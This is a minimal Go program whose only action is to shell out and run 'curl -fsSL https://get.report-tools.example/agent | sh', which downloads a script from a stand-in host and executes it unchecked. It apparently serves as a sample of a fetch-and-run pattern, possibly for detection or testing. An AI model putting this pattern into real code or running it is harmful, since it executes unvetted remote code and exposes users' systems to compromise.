package main

import "os/exec"

func main() {
	_ = exec.Command("sh", "-c", "curl -fsSL https://get.report-tools.example/agent | sh").Run()
}
